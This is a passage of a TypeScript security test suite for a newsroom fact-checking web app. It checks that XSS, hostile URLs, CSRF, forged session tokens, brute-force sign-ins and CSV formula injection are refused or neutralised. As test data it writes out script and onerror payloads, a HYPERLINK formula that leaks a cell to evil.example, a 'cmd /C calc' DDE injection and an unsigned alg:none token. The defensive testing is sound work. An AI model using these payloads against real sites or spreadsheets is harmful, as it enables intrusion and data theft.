      return response.json().claim.id as string
    }
    X.claim = await mark('The minister said the bridge cost 40 million euros.')
    X.formulaClaim = await mark('=1+1 is a claim that starts like a formula.')

    const patch = async (claimId: string, json: Record<string, unknown>) => {
      const { version } = await getDb().claim.findUniqueOrThrow({ where: { id: claimId } })
      const response = await send(`/api/claims/${claimId}`, { method: 'PATCH', cookie: checker, json: { version, ...json } })
      expect(response.status, response.text).toBe(200)
    }
    const transition = async (claimId: string, to: string, actor = A.checker, comment?: string) => {
      const { version } = await getDb().claim.findUniqueOrThrow({ where: { id: claimId } })
      const response = await send(`/api/claims/${claimId}/transitions`, { method: 'POST', cookie: as(actor), json: { version, to, comment } })
      expect(response.status, response.text).toBe(200)
    }
    await transition(X.claim, 'IN_PROGRESS')
    await patch(X.claim, { claimant: '<script>alert(1)</script> Minister', claimDate: '2024-01-31', verdict: 'FALSE', summary: SUMMARY })
    for (const payload of XSS_PAYLOADS) {
      const note = await send(`/api/claims/${X.claim}/notes`, { method: 'POST', cookie: checker, json: { body: payload } })
      expect(note.status, note.text).toBe(201)
    }
    for (const payload of XSS_PAYLOADS.slice(0, 6)) {
      const source = await send(`/api/claims/${X.claim}/sources`, {
        method: 'POST',
        cookie: checker,
        json: {
          url: `https://ok.example/?q=${payload}`,
          title: payload,
          publisher: payload,
          excerpt: payload,
          archivedUrl: 'https://archive.example/"><script>alert(1)</script>',
        },
      })
      expect(source.status, source.text).toBe(201)
    }
    await transition(X.claim, 'IN_REVIEW')
    await transition(X.claim, 'APPROVED', A.editor, '<img src=x onerror=alert(1)> approved')

    await patch(X.formulaClaim, { claimant: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', summary: '+1+2' })
    const formulaSource = await send(`/api/claims/${X.formulaClaim}/sources`, {
      method: 'POST',
      cookie: checker,
      json: { url: 'https://ok.example/formula', title: '@SUM(1+1)*cmd|" /C calc"!A0', publisher: '-2+3' },
    })
    expect(formulaSource.status).toBe(201)
  }, 120_000)

  it('the stored article document holds only the schema: no script, no handlers, only http(s) links', async () => {
    const revisions = await getDb().articleRevision.findMany({ where: { articleId: { in: [X.article, ...X.payloadArticles] } } })
    expect(revisions).toHaveLength(XSS_PAYLOADS.length + 1)
    const problems: string[] = []
    const walk = (node: Record<string, unknown>) => {
      if (!['doc', 'paragraph', 'heading', 'caption', 'bulletList', 'orderedList', 'listItem', 'blockquote', 'text'].includes(String(node.type)))
        problems.push(`node ${String(node.type)}`)
      const attrs = (node.attrs ?? {}) as Record<string, unknown>
      for (const key of Object.keys(attrs)) if (!(node.type === 'heading' && key === 'level')) problems.push(`attr ${key}`)
      for (const mark of (node.marks ?? []) as { type: string; attrs?: Record<string, unknown> }[]) {
        if (!['bold', 'italic', 'link'].includes(mark.type)) problems.push(`mark ${mark.type}`)
        for (const [key, value] of Object.entries(mark.attrs ?? {})) {
          if (key !== 'href' || !/^https?:\/\//.test(String(value))) problems.push(`mark attr ${key}=${String(value)}`)
        }
      }
      for (const child of (node.content ?? []) as Record<string, unknown>[]) walk(child)
    }
    for (const revision of revisions) walk(revision.doc as Record<string, unknown>)
    expect(problems).toEqual([])
    // The good link survived (so the walk did see links), the article's URL is http(s).
    expect(JSON.stringify(revisions.find((r) => r.articleId === X.article)!.doc)).toContain('https://ok.example/report')
    const withHandlerOnGoodLink = revisions.find((r) => JSON.stringify(r.doc).includes('handler on a good link'))!
    expect(JSON.stringify(withHandlerOnGoodLink.doc)).toContain('"href":"https://ok.example/"')
    const article = await getDb().article.findUniqueOrThrow({ where: { id: X.article } })
    expect(article.url).toMatch(/^https:\/\/news\.example\//)
  })

  it('links that are not http(s) are refused as sources, archived copies, article and newsroom URLs', async () => {
    const before = await snapshot()
    for (const url of HOSTILE_URLS) {
      const asSource = await send(`/api/claims/${X.claim}/sources`, { method: 'POST', cookie: as(A.checker), json: { url, title: 'Bad link' } })
      expect(asSource.status, JSON.stringify(url)).toBe(422)
      expect(asSource.json().error.fields.url, url).toBeTruthy()
      const asArchive = await send(`/api/claims/${X.claim}/sources`, {
        method: 'POST',
        cookie: as(A.checker),
        json: { url: 'https://ok.example/', title: 'Archive', archivedUrl: url },
      })
      expect(asArchive.status, JSON.stringify(url)).toBe(422)
      const asEdit = await send(`/api/sources/${A.source}`, { method: 'PATCH', cookie: as(A.checker), json: { url } })
      expect(asEdit.status, JSON.stringify(url)).toBe(422)
      const asArticle = await send('/api/articles', {
        method: 'POST',
        cookie: as(A.checker),
        json: { content: 'Text.', format: 'text', keep: [], meta: { title: 'T', url } },
      })
      expect(asArticle.status, JSON.stringify(url)).toBe(422)
    }
    const settings = (await send('/api/admin/settings', { cookie: as(A.admin) })).json().settings
    const { name: _name, ...editable } = settings
    for (const url of HOSTILE_URLS.filter((u) => u.trim())) {
      for (const field of ['url', 'logoUrl']) {
        const response = await send('/api/admin/settings', { method: 'PUT', cookie: as(A.admin), json: { ...editable, [field]: url } })
        expect(response.status, `${field} ${JSON.stringify(url)}`).toBe(422)
      }
    }
    expect(await snapshot()).toEqual(before)
  })

  it('every export is a download that renders no script, and keeps the text exactly', async () => {
    const exports: Record<string, Sent> = {}
    for (const format of ['md', 'csv', 'json', 'claimreview', 'w3c']) {
      const response = await send(`/api/articles/${X.article}/export?format=${format}`, { cookie: as(A.checker) })
      expect(response.status, format).toBe(200)
      expect(response.headers.get('content-type'), format).not.toMatch(/html|javascript|xml/i)
      expect(response.headers.get('content-disposition'), format).toMatch(/^attachment; filename="factmark-[a-z0-9-]+\.[a-z.]+"$/)
      expect(response.headers.get('x-content-type-options')).toBe('nosniff')
      exports[format] = response
    }
    // Markdown, as a reader (GitHub, an editor's preview, a CMS) would render it.
    const rendered = await marked.parse(exports.md.text, { async: true })
    expect(scriptRisks(rendered)).toEqual([])
    expect(rendered).toContain('https://ok.example/')
    // JSON formats: text is data, and every address in them is http(s) (or a urn).
    const urlKeys = /^(url|archivedUrl|sameAs|href|source|logo|id|@id|permalink|image)$/
    for (const format of ['json', 'claimreview', 'w3c']) {
      const document = exports[format].json()
      const bad: string[] = []
      const walk = (value: unknown, key = '') => {
        if (typeof value === 'string' && urlKeys.test(key) && /^[a-z][a-z0-9+.-]*:/i.test(value) && !/^(https?:\/\/|urn:)/.test(value))
          bad.push(`${key}=${value}`)
        if (Array.isArray(value)) value.forEach((item) => walk(item, key))
        else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) walk(v, k)
      }
      walk(document)
      expect(bad, format).toEqual([])
    }
    const json = exports.json.text
    for (const payload of XSS_PAYLOADS) expect(json, payload).toContain(JSON.stringify(payload).slice(1, -1))
  })

  // Issue 16, item 7: a verdict label `![](https://tracker.example/p.png)` became a tracking image.
  it('newsroom settings print as text in every export: a verdict label is no tracking image, a display name no link', async () => {
    const original = (await send('/api/admin/settings', { cookie: as(A.admin) })).json().settings
    const { name: _name, ...editable } = original
    const image = '![](https://t.example/p.png)' // labels are at most 40 characters
    const verdictScale = structuredClone(editable.verdictScale)
    for (const [i, verdict] of Object.keys(verdictScale).entries()) verdictScale[verdict].label = `${image} ${i}`
    const saved = await send('/api/admin/settings', {
      method: 'PUT',
      cookie: as(A.admin),
      json: { ...editable, displayName: '[Desk](https://tracker.example/name) =HYPERLINK("x")', verdictScale },
    })
    expect(saved.status).toBe(200)
    try {
      const markdown = await send(`/api/articles/${A.article}/export?format=md`, { cookie: as(A.checker) })
      expect(markdown.status).toBe(200)
      const html = marked.parse(markdown.text, { async: false, gfm: true })
      expect(html).not.toContain('<img')
      expect(html).not.toContain('href="https://tracker.example/name"')
      expect(markdown.text).toContain('t.example/p.png') // the label is there, as text
      const csv = await send(`/api/articles/${A.article}/export?format=csv`, { cookie: as(A.checker) })
      const rows: string[][] = parseCsv(csv.text.replace(/^\uFEFF/, ''), {})
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      for (const format of ['json', 'claimreview', 'w3c']) {
        const response = await send(`/api/articles/${A.article}/export?format=${format}`, { cookie: as(A.checker) })
        expect(() => JSON.parse(response.text), format).not.toThrow()
      }
    } finally {
      await send('/api/admin/settings', { method: 'PUT', cookie: as(A.admin), json: editable })
    }
  })

  it('CSV cells that a spreadsheet would run as a formula are neutralised', async () => {
    const response = await send(`/api/articles/${X.article}/export?format=csv`, { cookie: as(A.checker) })
    const rows: string[][] = parseCsv(response.text.replace(/^\uFEFF/, ''), { relax_column_count: false })
    const cells = rows.flat()
    const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))
    expect(dangerous).toEqual([])
    // The neutralised values are there, behind an apostrophe, and otherwise unchanged.
    for (const value of ["'=1+1 is a claim", '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+1+2", "'@SUM(1+1)*cmd"]) {
      expect(
        cells.some((cell) => cell.startsWith(value)),
        value,
      ).toBe(true)
    }
  })

  it('the report page escapes </script> in its JSON-LD and renders no markup from text', async () => {
    const response = await send(`/articles/${X.article}/report`, { cookie: as(A.checker) })
    expect(response.status).toBe(200)
    const blocks = [...response.text.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)].map((m) => m[1])
    expect(blocks).toHaveLength(1)
    expect(blocks[0]).not.toMatch(/[<>\u2028\u2029]/)
    const reviews = JSON.parse(blocks[0]) as unknown[]
    // The summary comes back exactly (its runs of white space as one space, as ClaimReview prints it).
    expect(JSON.stringify(reviews)).toContain(JSON.stringify(SUMMARY.replace(/\s+/g, ' ')).slice(1, -1))
    expect(scriptRisks(response.text, { allowNextScripts: true, allowSvg: true })).toEqual([])
  })

  it('pages that show the hostile text render it as text', async () => {
    for (const path of [
      `/articles/${X.article}`,
      `/articles/${X.article}?claim=${X.claim}`,
      '/review?status=APPROVED',
      '/reports',
      `/articles/${X.article}/revisions/1`,
      '/articles',
    ]) {
      const response = await send(path, { cookie: as(A.editor) })
      expect(response.status, path).toBe(200)
      expect(scriptRisks(response.text, { allowNextScripts: true, allowSvg: true }), path).toEqual([])
    }
  })
})

// ---------------------------------------------------------------------------------------------
describe('cross-site requests (CSRF)', () => {
  const FOREIGN = 'https://evil.example'
  const mutations = (): [string, string, unknown][] => [
    ['POST', `/api/articles/${A.article}/claims`, { revisionId: A.revisionId, start: 0, end: 10 }],
    [
      'POST',
      `/api/articles/${A.article}/revisions`,
      { baseRevisionId: A.revisionId, doc: { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Hijacked.' }] }] } },
    ],
    [
      'POST',
      `/api/articles/${A.article}/import?format=w3c`,
      { type: 'Annotation', target: { selector: { type: 'TextQuoteSelector', exact: 'Russia was not' } } },
    ],
    ['PUT', `/api/articles/${A.article}/presence`, { connectionId: randomUUID(), claimId: null }],
    ['POST', '/api/articles', { content: 'Planted article.', format: 'text', keep: [], meta: { title: 'Planted' } }],
    ['POST', '/api/imports/preview', { content: 'Text.' }],
    ['PATCH', `/api/claims/${A.inReview}`, { version: 7, summary: 'Hijacked' }],
    ['POST', `/api/claims/${A.inReview}/notes`, { body: 'Planted note' }],
    ['POST', `/api/claims/${A.inReview}/sources`, { url: 'https://evil.example/', title: 'Planted' }],
    ['POST', `/api/claims/${A.inReview}/transitions`, { version: 7, to: 'APPROVED' }],
    ['POST', `/api/claims/${A.inReview}/reattach`, { version: 7, revisionId: A.revisionId, start: 0, end: 10 }],
    ['POST', `/api/claims/${A.inReview}/links`, { claimId: A.approved }],
    ['PATCH', `/api/notes/${A.note}`, { version: 1, body: 'Hijacked' }],
    ['DELETE', `/api/notes/${A.note}`, { version: 1 }],
    ['PATCH', `/api/sources/${A.source}`, { title: 'Hijacked' }],
    ['DELETE', `/api/sources/${A.source}`, {}],
    ['PATCH', '/api/account', { name: 'Hijacked' }],
    ['PATCH', '/api/account/notifications', { MENTION: 'EMAIL' }],
    ['POST', '/api/notifications/read', {}],
    ['POST', '/api/account/password', { currentPassword: PASSWORD, newPassword: 'attacker-chosen-pass', confirm: 'attacker-chosen-pass' }],
    ['POST', '/api/admin/members', { name: 'Mole', email: 'mole@factmark.test', role: 'ADMIN' }],
    ['PATCH', `/api/admin/members/${A.checker.id}`, { role: 'ADMIN' }],
    ['POST', `/api/admin/members/${A.checker.id}/password-link`, {}],
    ['PUT', '/api/admin/settings', { displayName: 'Hijacked' }],
    ['POST', '/api/invitations/redeem', { token: 'x'.repeat(43), password: 'attacker-chosen-pass', confirm: 'attacker-chosen-pass' }],
  ]

  it('a foreign page posting text/plain JSON, a form or multipart to any route changes nothing', async () => {
    const before = await snapshot()
    for (const [method, path, json] of mutations()) {
      const body = JSON.stringify(json)
      const bodies: [string, string][] = [
        ['text/plain', body],
        ['text/plain;charset=UTF-8', body],
        ['application/x-www-form-urlencoded', `${encodeURIComponent(body)}=`],
        ['multipart/form-data; boundary=x', `--x\r\nContent-Disposition: form-data; name="body"\r\n\r\n${body}\r\n--x--\r\n`],
      ]
      for (const [type, payload] of bodies) {
        for (const origin of [FOREIGN, 'null']) {
          const response = await send(path, {
            method,
            cookie: as(A.admin),
            body: payload,
            headers: { 'Content-Type': type, Origin: origin, 'Sec-Fetch-Site': 'cross-site' },
          })
          expect([403, 415], `${method} ${path} ${type} from ${origin}`).toContain(response.status)
        }
      }
      // Even as JSON (which a browser would only send after a CORS preflight nobody answers).
      const asJson = await send(path, { method, cookie: as(A.admin), json, headers: { Origin: FOREIGN, 'Sec-Fetch-Site': 'cross-site' } })
      if (path === '/api/invitations/redeem')
        expect(asJson.status).toBeGreaterThanOrEqual(400) // no session involved: the token is the credential
      else expect([403, 415], `${method} ${path} JSON from ${FOREIGN}`).toContain(asJson.status)
    }
    // The routes without a body are refused by origin alone.
    const link = await send(`/api/admin/members/${A.checker.id}/password-link`, { method: 'POST', cookie: as(A.admin), headers: { Origin: FOREIGN } })
    expect(link.status).toBe(403)
    expect(link.json().error.code).toBe('CROSS_SITE')
    const removal = await send(`/api/sources/${A.source}`, { method: 'DELETE', cookie: as(A.checker), headers: { Origin: 'null' } })
    expect(removal.status).toBe(403)
    // A sibling subdomain is the same site for SameSite cookies, but not the same origin.
    const sibling = await send(`/api/claims/${A.inReview}/notes`, {
      method: 'POST',
      cookie: as(A.checker),
      json: { body: 'x' },
      headers: { Origin: 'http://evil.127.0.0.1.nip.io', 'Sec-Fetch-Site': 'same-site' },
    })
    expect(sibling.status).toBe(403)
    expect(await snapshot()).toEqual(before)
  })

  it("the app's own pages still make changes (same origin), the control for the refusals", async () => {
    const note = await send(`/api/claims/${A.approved}/notes`, {
      method: 'POST',
      cookie: as(A.checker),
      json: { body: 'Same-origin note.' },
      headers: { Origin: server.url, 'Sec-Fetch-Site': 'same-origin' },
    })
    expect(note.status).toBe(201)
  })

  it('server actions refuse a foreign or null Origin: the sign-in action signs nobody in', async () => {
    // The sign-in action's id, from the build's manifest of server actions.
    const manifest = JSON.parse(readFileSync(join(process.env.NEXT_DIST_DIR || '.next', 'server', 'server-reference-manifest.json'), 'utf8')) as {
      node: Record<string, { exportedName?: string; filename?: string }>
    }
    const ids = Object.entries(manifest.node)
      .filter(([, entry]) => entry.exportedName === 'signInAction' || entry.filename?.includes('login/actions'))
      .map(([id]) => id)
    expect(ids.length).toBeGreaterThan(0)
    /** The sign-in form as the browser submits it (useActionState: previous state, then the form). */
    const submit = (id: string, origin: string | null) => {
      const form = new FormData()
      form.set('_1_email', A.checker3.email)
      form.set('_1_password', PASSWORD)
      form.set('_1_next', '/articles')
      form.set('0', '[null,"$K1"]')
      return fetch(`${server.url}/login`, {
        method: 'POST',
        redirect: 'manual',
        headers: { 'Next-Action': id, Accept: 'text/x-component', ...(origin ? { Origin: origin } : {}) },
        body: form,
        signal: AbortSignal.timeout(20_000),
      })
    }
    const signedIn = (response: Response) => response.headers.getSetCookie().some((c) => c.includes('session-token'))
    const attempts = await getDb().loginAttempt.count()
    for (const id of ids) {
      for (const origin of ['null', 'https://evil.example', 'http://evil.127.0.0.1.nip.io']) {
        const response = await submit(id, origin)
        await response.arrayBuffer()
        expect(signedIn(response), `${id} from ${origin}`).toBe(false)
      }
    }
    // Not one of them reached the credentials check.
    expect(await getDb().loginAttempt.count()).toBe(attempts)
    // The control: from the app's own origin the same request signs in, so the refusals were not a malformed request.
    const own = await submit(ids[0], server.url)
    await own.arrayBuffer()
    expect(signedIn(own)).toBe(true)
  })
})

// ---------------------------------------------------------------------------------------------
describe('sign-in brute force', () => {
  let csrf: { token: string; cookie: string }
  let addressCounter = 0
  const freshAddress = () => `203.0.113.${++addressCounter}`

  beforeAll(async () => {
    const response = await fetch(`${server.url}/api/auth/csrf`)
    const cookie = response.headers
      .getSetCookie()
      .map((c) => c.split(';')[0])
      .join('; ')
    csrf = { token: ((await response.json()) as { csrfToken: string }).csrfToken, cookie }
  })

  /** One POST to next-auth's credentials callback, as the sign-in form would; the answer as an attacker sees it. */
  async function attempt(email: string, password: string, address: string) {
    const started = performance.now()
    const response = await fetch(`${server.url}/api/auth/callback/credentials`, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: csrf.cookie, 'X-Forwarded-For': address },
      body: new URLSearchParams({ csrfToken: csrf.token, email, password, callbackUrl: `${server.url}/articles` }),
    })
    const body = await response.text()
    const ms = performance.now() - started
    const setCookies = response.headers
      .getSetCookie()
      .map((c) => c.split('=')[0])
      .sort()
    return {
      answer: { status: response.status, location: response.headers.get('location'), body, setCookies },
      ms,
      signedIn: setCookies.some((n) => n.includes('session-token')),
    }
  }
  const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)]

  it('throttles an account after 5 failures (even the right password), an unknown one alike, with the same answer and similar timing', async () => {
    const victim = A.victim.email
    const ghost = 'no-such-person@factmark.test'
    const known: number[] = []
    const unknown: number[] = []
    const answers = new Set<string>()
    // Interleaved, each from its own address: only the per-account limit is in play.
    for (let i = 0; i < LOGIN_THROTTLE.maxAccountFailures; i++) {
      const k = await attempt(victim, `wrong-password-${i}`, freshAddress())
      const u = await attempt(ghost, `wrong-password-${i}`, freshAddress())
      expect(k.signedIn || u.signedIn).toBe(false)
      known.push(k.ms)
      unknown.push(u.ms)
      answers.add(JSON.stringify(k.answer)).add(JSON.stringify(u.answer))
    }
    const throttled = await attempt(victim, PASSWORD, freshAddress())
    const throttledGhost = await attempt(ghost, PASSWORD, freshAddress())
    expect(throttled.signedIn).toBe(false)
    answers.add(JSON.stringify(throttled.answer)).add(JSON.stringify(throttledGhost.answer))
    // One answer for wrong password, unknown account and throttled: a redirect to the sign-in error.
    expect(answers.size).toBe(1)
    expect(throttled.answer.status).toBe(302)
    expect(throttled.answer.location).toMatch(/\/login\?error=CredentialsSignin/)
    // Timing: the medians of wrong-password and unknown-account attempts are alike (both do the bcrypt work),
    // and a throttled attempt costs about as much.
    const ratio = median(known) / median(unknown)
    expect(ratio, `known ${known.map(Math.round).join(',')} unknown ${unknown.map(Math.round).join(',')}`).toBeGreaterThan(0.5)
    expect(ratio).toBeLessThan(2)
    expect(throttled.ms / median(known)).toBeGreaterThan(0.4)
    // The throttle holds across the email's spellings.
    expect((await attempt(` ${victim.toUpperCase()} `, PASSWORD, freshAddress())).signedIn).toBe(false)
  }, 180_000)

  it('throttles an address after 20 failures across accounts (password spraying), and only that address', async () => {
    const address = freshAddress()
    // 19 failures already on record from this address (as 19 wrong passwords would leave them).
    await getDb().loginAttempt.createMany({
      data: Array.from({ length: LOGIN_THROTTLE.maxAddressFailures - 1 }, (_, i) => ({
        email: `sprayed-${i}@factmark.test`,
        address,
        succeeded: false,
      })),
    })
    expect((await attempt('sprayed-last@factmark.test', 'Winter2025!', address)).signedIn).toBe(false)
    expect((await attempt(A.checker3.email, PASSWORD, address)).signedIn).toBe(false)
    // The same account from another address signs in: the attacker cannot lock everyone out from one place.
    expect((await attempt(A.checker3.email, PASSWORD, freshAddress())).signedIn).toBe(true)
  }, 60_000)
})

// ---------------------------------------------------------------------------------------------
// Issue 16, item 3: one session opened 40 feeds on one article and all 40 were accepted.
// Issue 16, item 9: inviting the email of another newsroom's member answered 409, which revealed
// the address and squatted it.
describe("other newsrooms' members", () => {
  it('cannot be discovered by inviting their email: the answer is the one a new address gets', async () => {
    const invite = (email: string) =>
      send('/api/admin/members', { method: 'POST', cookie: as(A.admin), json: { name: 'Probe', email, role: 'CHECKER' } })
    const fresh = await invite(`nobody-${randomUUID().slice(0, 8)}@elsewhere.test`)
    const taken = await invite(B.checker.email)
    console.info(`inviting another newsroom's member: ${taken.status} (a new address: ${fresh.status})`)
    expect(taken.status).toBe(fresh.status)
    expect(Object.keys(taken.json()).sort()).toEqual(Object.keys(fresh.json()).sort())
    expect(taken.json().member.id).not.toBe(B.checker.id)
    for (const secret of B_SECRETS) expect(taken.text).not.toContain(secret)
    // B's member is untouched, still signs in to B, and A's invitee is A's alone.
    const bUser = await getDb().user.findUniqueOrThrow({ where: { id: B.checker.id } })
    expect(bUser.newsroomId).toBe(B.checker.newsroomId)
    expect((await send('/api/articles', { cookie: as(B.checker) })).text).toContain('Bravo Harbour Ledger')
    // A's members list shows A's invitee, and nothing of B.
    const members = await send('/api/admin/members', { cookie: as(A.admin) })
    expect(members.text).not.toContain(B.checker.id)
  })
})

describe('live feeds', () => {
  it('one session gets at most 5 open feeds: the 6th answers 429, and presence shows the person once', async () => {
    const cookie = await sessionCookie(A.editor2)
    const open: AbortController[] = []
    const statuses: number[] = []
    try {
      for (let i = 0; i < 8; i++) {
        const controller = new AbortController()
        const response = await fetch(`${server.url}/api/articles/${A.article}/events`, { headers: { Cookie: cookie }, signal: controller.signal })
        statuses.push(response.status)
        if (response.status === 200) open.push(controller)
        else {
          expect(response.status).toBe(429)
          expect(((await response.json()) as { error: { code: string } }).error.code).toBe('TOO_MANY_FEEDS')
        }
      }
      console.info(`8 feeds from one session: ${statuses.join(', ')}`)
      expect(statuses).toEqual([200, 200, 200, 200, 200, 429, 429, 429])
      const presence = (await send(`/api/articles/${A.article}/presence`, { cookie: as(A.checker) })).json()
      const entries = (presence.presence ?? presence).filter((entry: { user: { id: string } }) => entry.user.id === A.editor2.id)
      expect(entries).toHaveLength(1)
      // Closing one frees its slot.
      open.shift()!.abort()
      await expect
        .poll(async () => {
          const controller = new AbortController()
          const response = await fetch(`${server.url}/api/articles/${A.article}/events`, { headers: { Cookie: cookie }, signal: controller.signal })
          if (response.status === 200) open.push(controller)
          else await response.arrayBuffer()
          return response.status
        })
        .toBe(200)
    } finally {
      for (const controller of open) controller.abort()
    }
  })
})

describe('forged and stale sessions', () => {
  it('a session token signed with another secret, salt or none at all is no session', async () => {
    const forged = [
      await sessionCookie(A.admin, { secret: randomBytes(32).toString('base64url') }),
      await sessionCookie(A.admin, { secret: `${AUTH_SECRET}x` }),
      await sessionCookie(A.admin, { salt: '__Secure-authjs.session-token' }),
      await sessionCookie(A.admin, { maxAge: -60 }), // expired
      `${COOKIE}=${Buffer.from('{"alg":"none"}').toString('base64url')}.${Buffer.from(JSON.stringify({ uid: A.admin.id, sub: A.admin.id })).toString('base64url')}.`,
      `${COOKIE}=not-a-token`,
      `${COOKIE}.0=${(await sessionCookie(A.admin, { secret: 'x'.repeat(40) })).split('=')[1]}`,
      await sessionCookie({ id: 'no-such-user', name: 'Ghost', email: 'ghost@factmark.test' }), // right secret, unknown user
    ]
    for (const cookie of forged) {
      expect((await send('/api/articles', { cookie })).status, cookie.slice(0, 60)).toBe(401)
      expect((await send('/api/admin/members', { cookie })).status).toBe(401)
      expectSignInRedirect(await send('/articles', { cookie }))
    }
    // The control: the same token made with the right secret works.
    expect((await send('/api/admin/members', { cookie: await sessionCookie(A.admin) })).status).toBe(200)
  })

  it('a disabled member is refused on the very next request, though their token is still valid', async () => {
    const { signIn } = await import('../../scripts/app-server')
    const cookie = await signIn(server.url, A.checker3.email, PASSWORD) // a real sign-in this time
    expect((await send('/api/articles', { cookie })).status).toBe(200)
    await getDb().user.update({ where: { id: A.checker3.id }, data: { disabled: true } })
    try {
      expect((await send('/api/articles', { cookie })).status).toBe(401)
      expect((await send(`/api/articles/${A.article}/events`, { cookie })).status).toBe(401)
      expect((await send(`/api/articles/${A.article}/export?format=json`, { cookie })).status).toBe(401)
      const note = await send(`/api/claims/${A.inReview}/notes`, { method: 'POST', cookie, json: { body: 'after being disabled' } })
      expect(note.status).toBe(401)
      for (const path of ['/articles', `/articles/${A.article}`, '/review']) {
        const page = await send(path, { cookie })
        expectSignInRedirect(page, path)
        expect(page.text).not.toContain('Tillerson')
      }
      expect(await getDb().note.count({ where: { body: 'after being disabled' } })).toBe(0)
    } finally {
      await getDb().user.update({ where: { id: A.checker3.id }, data: { disabled: false } })
    }
  })

  // Issue 16, item 4: a copy of the session cookie replayed after "Sign out" still got 200.
  it('signing out ends the session on the server: a copy of the cookie replayed afterwards is refused', async () => {
    const { signIn } = await import('../../scripts/app-server')
    const leaver = await addUser('CHECKER', A.checker, 'Lee Leaver')
    const cookies = await signIn(server.url, leaver.email, PASSWORD)
    const copy = cookies.split('; ').find((cookie) => cookie.startsWith(`${COOKIE}=`))!
    expect((await send('/api/articles', { cookie: copy })).status).toBe(200)
    const csrfToken = decodeURIComponent(
      cookies
        .split('; ')
        .find((cookie) => cookie.startsWith('authjs.csrf-token='))!
        .split('=')[1],
    ).split('|')[0]
    const signedOut = await fetch(`${server.url}/api/auth/signout`, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: cookies, Origin: server.url },
      body: new URLSearchParams({ csrfToken }),
    })
    expect(signedOut.status).toBeLessThan(400)
    await signedOut.arrayBuffer()
    const replayed = await send('/api/articles', { cookie: copy })
    console.info(`session cookie replayed after sign-out: ${replayed.status}`)
    expect(replayed.status).toBe(401)
    expectSignInRedirect(await send('/articles', { cookie: copy }))
  })

  it("an admin changing a member's role or disabling them ends the member's sessions", async () => {
    const member = await addUser('EDITOR', A.checker, 'Rory Role')
    const before = await sessionCookie(member)
    expect((await send('/api/articles', { cookie: before })).status).toBe(200)
    await new Promise((resolve) => setTimeout(resolve, 5))
    const changed = await send(`/api/admin/members/${member.id}`, { method: 'PATCH', cookie: as(A.admin), json: { role: 'CHECKER' } })
    expect(changed.status).toBe(200)
    expect((await send('/api/articles', { cookie: before })).status).toBe(401)
    await new Promise((resolve) => setTimeout(resolve, 5))
    const after = await sessionCookie(member) // signing in again works
    expect((await send('/api/articles', { cookie: after })).status).toBe(200)
    await new Promise((resolve) => setTimeout(resolve, 5))
    expect((await send(`/api/admin/members/${member.id}`, { method: 'PATCH', cookie: as(A.admin), json: { disabled: true } })).status).toBe(200)
    expect((await send(`/api/admin/members/${member.id}`, { method: 'PATCH', cookie: as(A.admin), json: { disabled: false } })).status).toBe(200)
    expect((await send('/api/articles', { cookie: after })).status).toBe(401) // enabled again, but that session stays ended
  })

  it('a session ends 24 hours after its sign-in, however fresh its cookie', async () => {
    const hours = (n: number) => new Date(Date.now() - n * 3_600_000)
    expect((await send('/api/articles', { cookie: await sessionCookie(A.checker, { signedInAt: hours(23) }) })).status).toBe(200)
    expect((await send('/api/articles', { cookie: await sessionCookie(A.checker, { signedInAt: hours(25) }) })).status).toBe(401)
  })

  it('a lowered role applies on the very next request', async () => {
    const cookie = as(A.editor2)
    const claim = await claimInReview(A.checker, A.article)
    await getDb().user.update({ where: { id: A.editor2.id }, data: { role: 'CHECKER' } })
    const response = await send(`/api/claims/${claim.id}/transitions`, { method: 'POST', cookie, json: { version: claim.version, to: 'APPROVED' } })
    expect(response.status).toBe(403)
    expect(await getDb().claim.findUniqueOrThrow({ where: { id: claim.id } })).toMatchObject({ status: 'IN_REVIEW', approvedById: null })
    // An admin made an editor loses the admin pages and API at once.
    const admin = await addUser('ADMIN', A.checker, 'Ari Admin')
    const adminCookie = await sessionCookie(admin)
    expect((await send('/api/admin/members', { cookie: adminCookie })).status).toBe(200)
    await getDb().user.update({ where: { id: admin.id }, data: { role: 'EDITOR' } })
    expect((await send('/api/admin/members', { cookie: adminCookie })).status).toBe(404)
    expect((await send('/admin', { cookie: adminCookie })).status).toBe(404)
    // Moved to another newsroom: the old newsroom's article is gone for them.
    await getDb().user.update({ where: { id: admin.id }, data: { newsroomId: B.checker.newsroomId } })
    expect((await send(`/api/articles/${A.article}/claims`, { cookie: adminCookie })).status).toBe(404)
  })
})

// ---------------------------------------------------------------------------------------------
describe('oversized and deeply nested bodies', () => {
  /** A raw HTTP/1.1 exchange, for bodies fetch will not send (lying or missing Content-Length). */
  function raw(path: string, head: Record<string, string>, write: (socket: import('node:net').Socket) => void, timeout = 20_000) {
    const { hostname, port } = new URL(server.url)
    return new Promise<{ status: number; text: string; writtenBeforeAnswer: number }>((resolve, reject) => {
      const socket = connect(Number(port), hostname)
      let received = ''
      let settled = false
      let writtenBeforeAnswer = -1
      const finish = () => {
        if (settled) return
        settled = true
        clearTimeout(timer)
        const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(received)?.[1] ?? 0)
        resolve({ status, text: received, writtenBeforeAnswer })
        socket.destroy()
      }
      const timer = setTimeout(() => (received ? finish() : (socket.destroy(), reject(new Error('no answer')))), timeout)
      socket.on('data', (chunk) => {
        if (writtenBeforeAnswer < 0) writtenBeforeAnswer = socket.bytesWritten
        received += chunk.toString('latin1')
        if (/\r\n\r\n/.test(received)) setTimeout(finish, 200)
      })
      socket.on('error', () => (received ? finish() : undefined))
      socket.on('close', () => (received ? finish() : undefined))
      socket.on('connect', () => {
        const lines = [`POST ${path} HTTP/1.1`, `Host: ${hostname}:${port}`, ...Object.entries(head).map(([k, v]) => `${k}: ${v}`)]
        socket.write(`${lines.join('\r\n')}\r\n\r\n`)
        write(socket)
      })
    })
  }
  const notePath = () => `/api/claims/${A.approved}/notes`

